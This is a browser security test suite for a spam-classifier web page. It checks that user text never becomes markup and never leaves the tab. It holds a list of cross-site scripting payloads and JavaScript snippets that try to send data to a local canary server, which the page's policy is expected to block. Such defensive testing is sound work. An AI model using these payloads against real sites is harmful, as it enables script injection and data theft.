"""What is promised about a visitor's text: it is never markup, and it never leaves the tab."""

import http.server
import itertools
import json
import re
import threading
from urllib.parse import quote

import pytest

CANARY = "xyzzycanary"


@pytest.fixture
def canary():
    """A server on another port that counts what reaches it."""
    hits = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}", hits
        server.shutdown()


LEAKS = {
    "fetch": "fetch('http://HOST/').catch(() => {})",
    "xhr": "new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'http://HOST/'); x.send(); })",
    "websocket": "new Promise((done) => { try { const s = new WebSocket('ws://HOST/'); s.onerror = s.onclose = done; } catch { done(); } })",
    "import": "import('http://HOST/x.mjs').catch(() => {})",
    "event source": "new Promise((done) => { try { const s = new EventSource('http://HOST/'); s.onerror = done; } catch { done(); } })",
}
PAGE_LEAKS = {
    "image": "new Promise((done) => { const i = new Image(); i.onerror = i.onload = done; i.src = 'http://HOST/x.png'; })",
    "beacon": "navigator.sendBeacon('http://HOST/', 'x')",
    "style": "new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = l.onload = done; l.href = 'http://HOST/x.css'; document.head.append(l); })",
    "form": "(() => { const f = document.createElement('form'); f.action = 'http://HOST/'; f.target = '_blank'; document.body.append(f); f.submit(); })()",
}  # fmt: skip


def test_nothing_can_be_sent_from_the_page_or_from_the_worker(live, canary, trouble):
    host, hits = canary
    page = live()
    worker = page.workers[0]
    for where, code in [*((worker, c) for c in LEAKS.values()), *((page, c) for c in {**LEAKS, **PAGE_LEAKS}.values())]:
        where.evaluate(f"async () => {{ await {code.replace('HOST', host)}; }}")
    worker.evaluate("async (host) => { await self.fetch(`http://${host}/late`).catch(() => {}); }", host)
    page.wait_for_timeout(300)
    assert hits == []
    assert any("policy" in line.lower() for line in trouble)  # it was the policy that stopped them
    trouble.clear()


def test_the_canary_server_does_hear_a_page_without_a_policy(browser, canary):
    """The test above can fail: without the policy every leak arrives."""
    host, hits = canary
    page = browser.new_page()
    page.goto(f"http://{host}/own")
    page.evaluate(f"async () => {{ await {LEAKS['fetch'].replace('HOST', host)}; }}")
    assert "/" in hits
    page.close()


def test_neither_the_page_nor_the_worker_can_evaluate_text(live, trouble):
    page = live()
    # Later, on its own: while Playwright's call runs, the browser lets everything be evaluated.
    blocked = """() => new Promise((done) => setTimeout(() => {
      try { new Function("return 1")(); done(false); } catch { done(true); } }))"""
    assert page.workers[0].evaluate(blocked) and page.evaluate(blocked)
    page.wait_for_timeout(200)
    assert any("policy" in line for line in trouble)
    trouble.clear()


MARKUP = [
    "<img src=x onerror=PWN>", "<svg onload=PWN>", "<script>PWN</script>", "<iframe srcdoc='<script>PWN</script>'>",
    "<b onmouseover=PWN>x</b>", "<a href='javascript:PWN'>x</a>", "\"><img src=x onerror=PWN>", "'><svg/onload=PWN>",
    "<math><mtext><img src=x onerror=PWN></mtext></math>", "</textarea><img src=x onerror=PWN>", "<style>@import 'x'</style>",
    "<details open ontoggle=PWN>", "<input autofocus onfocus=PWN>", "<video><source onerror=PWN></video>", "{{constructor.constructor('PWN')()}}",
    "$\\href{javascript:PWN}{x}$", "$$\\includegraphics{x}$$", "</title><img src=x onerror=PWN>", "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
    "&lt;img src=x onerror=PWN&gt;",
]  # fmt: skip
WRAPS = [
    "{}",
    "Subject: {}\n\nbody",
    "From: {}\nSubject: x\nContent-Type: text/html\n\n<p>{}</p>",
    "winner {} free money {}",
    "<html>{}",
]


def test_no_input_is_ever_markup(live):
    page = live()
    page.evaluate("globalThis.pwned = 0")
    box = page.get_by_label("E-mail")
    payloads = [
        wrap.replace("{}", payload.replace("PWN", f"top.pwned={n}"))
        for n, (payload, wrap) in enumerate(itertools.product(MARKUP, WRAPS), 1)
    ]
    inside = """() => { const seen = []; const walk = (n) => { for (const c of n.children) {
      if (["IMG", "SCRIPT", "IFRAME", "VIDEO", "DETAILS", "MATH"].includes(c.tagName) && !c.closest("dialog")) seen.push(c.outerHTML);
      if (c.shadowRoot) walk(c.shadowRoot); walk(c); } }; walk(document.querySelector("main .columns")); return seen; }"""
    for payload in payloads:
        box.fill(payload)
        page.locator("html:not([data-busy])").wait_for()
        assert page.evaluate(inside) == []
    assert page.evaluate("globalThis.pwned") == 0


def test_hostile_links_open_something_and_run_nothing(live):
    page = live()
    page.evaluate("globalThis.pwned = 0")
    for n, payload in enumerate(MARKUP, 1):
        text = quote(payload.replace("PWN", f"top.pwned={n}"))
        for link in (
            f"#{text}",
            f"#spam?{text}=1",
            f"#spam?model={text}",
            f"#spam?smoothing={text}",
            f"#spam?mail={text}",
        ):
            page.evaluate("(link) => { location.hash = link; }", link)
            page.locator("html:not([data-busy])").wait_for()
    assert page.evaluate("globalThis.pwned") == 0
    page.evaluate("location.hash = '#spam?prior=0.25'")
    page.wait_for_url(re.compile(r"prior=0\.25"))


def test_a_mail_is_in_no_address_title_storage_cache_or_console(live, context):
    said = []
    page = live()
    page.on("console", lambda message: said.append(message.text))
    page.get_by_label("E-mail").fill(f"Dear {CANARY}, your secret order has been sent to the address you gave us")
    page.get_by_role("status").get_by_text(re.compile("spam", re.I)).first.wait_for()
    page.get_by_label("Bernoulli", exact=False).check()
    page.wait_for_url(re.compile("bernoulli"))
    kept = page.evaluate(
        """async () => JSON.stringify([location.href, document.title, {...localStorage}, {...sessionStorage}, history.state,
        await caches.keys(), (await indexedDB.databases()).map((d) => d.name), document.cookie])"""
    )
    assert CANARY not in kept and not any(CANARY in line for line in said)
    assert json.loads(kept)[5:7] == [[], []]


def test_a_mail_enters_a_link_only_by_the_button_that_says_so(live, context, site):
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = live()
    page.get_by_label("E-mail").fill(f"free money {CANARY}")
    page.get_by_role("status").get_by_text(re.compile("spam", re.I)).first.wait_for()
    page.get_by_role("button", name="Copy link", exact=True).click()
    page.get_by_text("Copied.").wait_for()
    assert CANARY not in page.evaluate("navigator.clipboard.readText()")
    page.get_by_role("button", name="Copy link with the e-mail in it").click()
    page.locator("html:not([data-busy])").wait_for()
    page.wait_for_timeout(200)
    link = page.evaluate("navigator.clipboard.readText()")
    assert CANARY in link
    other = context.new_page()
    other.goto(link)
    other.locator("html[data-genlab=live]").wait_for()
    assert other.get_by_label("E-mail").input_value() == f"free money {CANARY}"
